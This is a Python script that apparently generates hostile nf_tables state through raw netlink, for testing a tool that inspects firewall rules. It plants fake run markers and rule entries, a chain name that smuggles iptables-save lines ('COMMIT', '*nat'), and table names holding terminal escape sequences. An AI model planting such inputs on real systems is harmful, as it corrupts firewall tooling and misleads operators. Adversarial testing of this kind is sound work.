"""What somebody with nf_tables can put into his network namespace, for those who look into it.

	hostile.py claims N CHAINS     N rules of INPUT, each the entry of a run with so many chains, which are not there
	hostile.py again RUN N         N rules of INPUT that say they are the entry of this run
	hostile.py lines N             a chain whose name is lines of a save, and N rules of INPUT that lead there
	hostile.py names N             N tables with a chain, whose names are commands for terminals
	hostile.py signs N WORD...     N signs that runs are being made, the last of them by us; then the command
"""
import socket
import struct
import subprocess
import sys

NEWTABLE, NEWCHAIN, NEWRULE, NEWSET = 0, 3, 6, 9
CREATE, APPEND, REQUEST = 0x400, 0x800, 1
NETFILTER, NFTABLES, IPV4 = 12, 10, 2
NESTED = 0x8000


def attr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def text(kind, s):
    return attr(kind, s.encode() + b"\0")


def number(kind, n):
    return attr(kind, struct.pack(">I", n))


def message(kind, flags, subsystem, resource, body, seq):
    head = struct.pack(">BBH", IPV4, 0, resource)
    return struct.pack("IHHII", 20 + len(body), subsystem << 8 | kind, REQUEST | flags, seq, 0) + head + body


class Batch:
    def __init__(self):
        self.messages = [message(0x10, 0, 0, NFTABLES, b"", 0)]
        self.add(NEWTABLE, CREATE, text(1, "filter"))
        hook = number(1, 1) + number(2, 0)
        self.add(NEWCHAIN, CREATE, text(1, "filter") + text(3, "INPUT") + attr(4 | NESTED, hook) + text(7, "filter"))

    def add(self, kind, flags, body):
        self.messages.append(message(kind, flags, NFTABLES, 0, body, len(self.messages)))

    def set(self, name, number_):
        self.add(NEWSET, CREATE, text(1, "filter") + text(2, name) + number(4, 7) + number(5, 4) + number(10, number_))

    def entry(self, run, maps, chains):
        said = struct.pack(">BBQIII", 0x80, 20, run, maps, chains, 0)
        counter = attr(1 | NESTED, text(1, "counter"))
        self.add(NEWRULE, CREATE | APPEND, text(1, "filter") + text(2, "INPUT") + attr(4 | NESTED, counter) + attr(7, said))

    def send(self, sock):
        data = b"".join(self.messages) + message(0x11, 0, 0, NFTABLES, b"", len(self.messages))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, len(data) * 2)
        sock.send(data)
        sock.settimeout(0)
        try:
            sys.exit(f"the kernel refuses it: {sock.recv(1 << 16)!r}")
        except BlockingIOError:
            pass


sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETFILTER)
sock.bind((0, 0))
batch = Batch()
what, n = sys.argv[1], int(sys.argv[2])
if what == "claims":
    batch.set("sluice.0000000000000001.map.00000", 1)
    for i in range(n):
        batch.entry(i + 2, 0, int(sys.argv[3]))
elif what == "again":
    for i in range(int(sys.argv[3])):
        batch.entry(n, 1, 1)
elif what == "lines":
    name = "x - [0:0]\nCOMMIT\n*nat"
    batch.add(NEWCHAIN, CREATE, text(1, "filter") + text(3, name))
    for i in range(n):
        jump = number(1, 0) + attr(2 | NESTED, attr(2 | NESTED, number(1, -3 & 0xffffffff) + text(2, name)))
        jump = text(1, "immediate") + attr(2 | NESTED, jump)
        batch.add(NEWRULE, CREATE | APPEND, text(1, "filter") + text(2, "INPUT") + attr(4 | NESTED, attr(1 | NESTED, jump)))
elif what == "names":
    for i in range(n):
        table = attr(1, b"\x1b[31m%d\x9b\0" % i)
        batch.add(NEWTABLE, CREATE, table)
        batch.add(NEWCHAIN, CREATE, table + attr(3, b"\x1b[2J\0") + attr(4 | NESTED, number(1, 1) + number(2, 5)) + text(7, "filter"))
else:
    own = sock.getsockname()[0]
    for i in range(n):
        batch.set(f"sluice.{i + 1:016x}.ahead.00001.{own if i == n - 1 else 100000 + i}", i + 1)
batch.send(sock)
if what == "signs":
    sys.exit(subprocess.run(sys.argv[3:]).returncode)
